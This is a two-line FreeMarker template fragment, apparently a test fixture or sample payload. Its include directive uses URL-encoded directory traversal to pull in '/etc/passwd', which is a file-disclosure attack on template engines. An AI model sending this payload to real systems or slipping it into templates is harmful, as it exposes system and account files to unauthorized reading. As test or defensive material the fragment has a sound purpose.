<#ftl attributes={"rapport": "verslag", "model": 1}>
<#include "%2e%2e/%2e%2e/etc/passwd">
